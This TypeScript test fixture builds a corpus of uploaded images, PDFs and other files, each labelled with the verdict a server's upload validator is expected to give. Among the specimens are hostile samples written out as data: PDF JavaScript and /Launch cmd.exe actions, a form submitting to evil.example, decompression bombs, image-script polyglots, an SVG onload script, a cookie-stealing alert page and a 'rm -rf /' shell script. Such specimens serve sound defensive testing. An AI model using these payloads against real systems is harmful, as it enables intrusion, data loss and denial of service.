import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { MAX_FILE_BYTES } from '#protocol/files.ts'

/** What the server makes of a file: the kind it stores, or the code of its refusal. */
export type Verdict = 'image/jpeg' | 'image/png' | 'application/pdf' | 'file.type' | 'file.unreadable'

export interface Specimen {
  readonly name: string
  readonly bytes: Buffer
  readonly verdict: Verdict
}

const ascii = (text: string): Buffer => Buffer.from(text, 'latin1')
const join = (...parts: readonly (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? ascii(part) : part)))

const canvas = (width = 32, height = 24) => sharp({ create: { width, height, channels: 3, background: '#2e7d32' } })

/** A PDF of one empty page, with more objects and entries of the catalog. */
const pdf = (extra: { catalog?: string; objects?: readonly (string | Buffer)[]; trailer?: string } = {}): Buffer =>
  join(
    '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n',
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''} >>\nendobj\n`,
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
    ...(extra.objects ?? []),
    `trailer\n<< /Root 1 0 R ${extra.trailer ?? ''} >>\nstartxref\n0\n%%EOF\n`,
  )

const stream = (number: number, dictionary: string, content: Buffer): Buffer =>
  join(`${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`, content, '\nendstream\nendobj\n')

const action = '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'

/** A PNG whose head promises a size and whose body holds little. */
const pngOf = (width: number, height: number): Buffer => {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = join(type, data)
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length, 0)
    frame.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const row = Math.ceil(width / 8) + 1
  const pixels = deflateSync(Buffer.alloc(Math.min(row * height, 1_000_000)))
  return join('\x89PNG\r\n\x1a\n', chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)))
}

const zip = join('PK\x03\x04\x14\x00\x00\x00\x00\x00', Buffer.alloc(20), 'a.txt', 'PK\x05\x06', Buffer.alloc(18))
const html = '<!doctype html><html><script>alert(document.cookie)</script></html>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

const pictures = async (): Promise<Specimen[]> => {
  const jpeg = await canvas().jpeg().toBuffer()
  const png = await canvas().png().toBuffer()
  const located = await canvas(40, 20)
    .jpeg()
    .withExif({ IFD0: { Make: 'SECRET-MAKER', Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitude: '24/1 42/1 0/1', GPSLatitudeRef: 'N' } })
    .toBuffer()
  const turned = await canvas(40, 20).jpeg().withMetadata({ orientation: 6 }).toBuffer()
  const good = (name: string, bytes: Buffer, verdict: Verdict): Specimen => ({ name, bytes, verdict })
  return [
    good('a photo', jpeg, 'image/jpeg'),
    good('a picture', png, 'image/png'),
    good('a photo that knows where it was taken', located, 'image/jpeg'),
    good('a photo held sideways', turned, 'image/jpeg'),
    good('a progressive photo', await canvas().jpeg({ progressive: true }).toBuffer(), 'image/jpeg'),
    good('a grey photo', await canvas().greyscale().jpeg().toBuffer(), 'image/jpeg'),
    good('a photo in four colours', await canvas().toColourspace('cmyk').jpeg().toBuffer(), 'image/jpeg'),
    good(
      'a see-through picture',
      await sharp({ create: { width: 9, height: 9, channels: 4, background: '#0000' } })
        .png()
        .toBuffer(),
      'image/png',
    ),
    good('a picture with a palette', await canvas().png({ palette: true }).toBuffer(), 'image/png'),
    good('a picture of one dot', await canvas(1, 1).png().toBuffer(), 'image/png'),
    good('a photo of 12 megapixels', await canvas(4000, 3000).jpeg().toBuffer(), 'image/jpeg'),
    good('a photo with a page hidden behind it', join(jpeg, html), 'image/jpeg'),
    good('a photo with an archive hidden behind it', join(jpeg, zip), 'image/jpeg'),
    good('a photo with a document hidden behind it', join(jpeg, pdf()), 'image/jpeg'),
    good('a picture with a script hidden behind it', join(png, html), 'image/png'),
    good(
      'a photo with a script in its comment',
      join(jpeg.subarray(0, 2), '\xff\xfe\x00\x42', html.slice(0, 64), jpeg.subarray(2)),
      'image/jpeg',
    ),
    good('half a photo', jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'file.unreadable'),
    good('half a picture', png.subarray(0, Math.floor(png.length / 2)), 'file.unreadable'),
    good('the first bytes of a photo', jpeg.subarray(0, 4), 'file.unreadable'),
    good('a photo of noise', join('\xff\xd8\xff\xe0', Buffer.alloc(400, 7)), 'file.unreadable'),
    good('a picture of noise', join('\x89PNG\r\n\x1a\n', Buffer.alloc(400, 7)), 'file.type'),
    good('a picture that unfolds to 900 megapixels', pngOf(30_000, 30_000), 'file.unreadable'),
    good('a picture that unfolds to 4 gigapixels', pngOf(65_000, 65_000), 'file.unreadable'),
    good('a picture wider than any screen', pngOf(200_000_000, 1), 'file.unreadable'),
    good('a picture without a size', pngOf(0, 0), 'file.unreadable'),
    good('a webp picture', await canvas().webp().toBuffer(), 'file.type'),
    good('a gif', await canvas().gif().toBuffer(), 'file.type'),
    good('a tiff', await canvas().tiff().toBuffer(), 'file.type'),
    good('an avif picture', await canvas().avif().toBuffer(), 'file.type'),
  ]
}

const documents = (): Specimen[] => {
  const packed = (text: string, dictionary = '') =>
    stream(6, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}`, deflateSync(ascii(text)))
  const good = (name: string, bytes: Buffer): Specimen => ({ name, bytes, verdict: 'application/pdf' })
  const bad = (name: string, bytes: Buffer, verdict: Verdict = 'file.unreadable'): Specimen => ({ name, bytes, verdict })
  return [
    good('a document', pdf()),
    good('a document of 2.0', Buffer.from(pdf().toString('latin1').replace('1.7', '2.0'), 'latin1')),
    good('a document that opens on its first page', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })),
    good('a document with a link', pdf({ objects: ['5 0 obj\n<< /S /URI /URI (https://example.com) >>\nendobj\n'] })),
    good('a document with packed objects', pdf({ objects: [packed('7 0 << /Type /Font >>')] })),
    good('a document with a picture', pdf({ objects: [stream(5, '/Subtype /Image', Buffer.alloc(300, 9))] })),
    good('a document that ends with blank lines', join(pdf(), '\r\n\r\n')),
    bad('a document with a script', pdf({ objects: [action] })),
    bad('a document that runs a script when it opens', pdf({ catalog: '/OpenAction 5 0 R', objects: [action] })),
    bad(
      'a document with a script under an escaped name',
      pdf({ objects: ['5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n'] }),
    ),
    bad('a document with a script in packed objects', pdf({ objects: [packed('7 0 << /S /JavaScript /JS (app.alert(1)) >>')] })),
    bad('a document with an escaped script in packed objects', pdf({ objects: [packed('7 0 << /S /#4aavaScript >>')] })),
    bad(
      'a document with a script in plain packed objects',
      pdf({ objects: [stream(6, '/Type /ObjStm /N 1', ascii('7 0 << /JS (x) >>'))] }),
    ),
    bad('a document that starts a program', pdf({ objects: ['5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
    bad('a document that carries a file', pdf({ objects: [stream(5, '/Type /EmbeddedFile', Buffer.from('MZ'))] })),
    bad('a document with a list of files', pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
    bad('a document with actions of its own', pdf({ catalog: '/AA << /WC 5 0 R >>' })),
    bad('a document that sends its form', pdf({ objects: ['5 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'] })),
    bad('a document with a living form', pdf({ catalog: '/AcroForm << /XFA 5 0 R >>' })),
    bad('a document with a film', pdf({ objects: ['5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'] })),
    bad('a document that opens another', pdf({ objects: ['5 0 obj\n<< /S /GoToE >>\nendobj\n'] })),
    bad('a locked document', pdf({ trailer: '/Encrypt 9 0 R' })),
    bad(
      'a document whose packed objects unfold without end',
      pdf({ objects: [stream(6, '/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(64 * 1024 * 1024)))] }),
    ),
    bad(
      'a document whose packed objects are damaged',
      pdf({ objects: [stream(6, '/Type /ObjStm /Filter /FlateDecode', Buffer.alloc(50, 1))] }),
    ),
    bad('half a document', pdf().subarray(0, 120)),
    bad('a document with a page behind it', join(pdf(), html)),
    bad('a document with an archive behind it', join(pdf(), zip)),
    bad('the head of a document', ascii('%PDF-1.7\n')),
    bad('a document of no version', join('%PDF-x\n', pdf().subarray(9))),
    bad('a page with a document in it', join(html, pdf()), 'file.type'),
    bad('an archive with a document in it', join(zip, pdf()), 'file.type'),
  ]
}

const others = (): Specimen[] =>
  (
    [
      ['a page', html],
      ['a drawing with a script', svg],
      ['a drawing', `<?xml version="1.0"?>${svg}`],
      ['plain words', 'hello'],
      ['one byte', '\0'],
      ['zeros', Buffer.alloc(1000)],
      ['a program', join('MZ', Buffer.alloc(200))],
      ['another program', join('\x7fELF\x02\x01\x01', Buffer.alloc(200))],
      ['an archive', zip],
      ['a shell script', '#!/bin/sh\nrm -rf /\n'],
      ['an old bitmap', join('BM', Buffer.alloc(100))],
      ['a gif that is a script', 'GIF89a/*\0\0*/=1;alert(1)//'],
      ['a photo of a phone in its own format', join('\0\0\0\x18ftypheic\0\0\0\0mif1heic', Buffer.alloc(100))],
      ['a film', join('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', Buffer.alloc(100))],
      ['PostScript', '%!PS-Adobe-3.0\n'],
    ] as const
  ).map(([name, content]) => ({ name, bytes: typeof content === 'string' ? ascii(content) : content, verdict: 'file.type' }))

/** Files people and attackers upload, each with what must become of it. */
export const uploadCorpus = async (): Promise<readonly Specimen[]> => [...(await pictures()), ...documents(), ...others()]

/** A document of exactly so many bytes. */
export const pdfOf = (size: number): Buffer => {
  const bare = pdf({ objects: [stream(5, '/Subtype /Image', Buffer.alloc(10))] }).length
  const padding = size - bare - (String(size - bare).length - 1)
  const made = pdf({ objects: [stream(5, '/Subtype /Image', Buffer.alloc(10 + padding))] })
  return made.length === size ? made : Buffer.concat([made.subarray(0, -1), Buffer.alloc(size - made.length, 10), ascii('\n')])
}
export const LARGEST = MAX_FILE_BYTES - 1
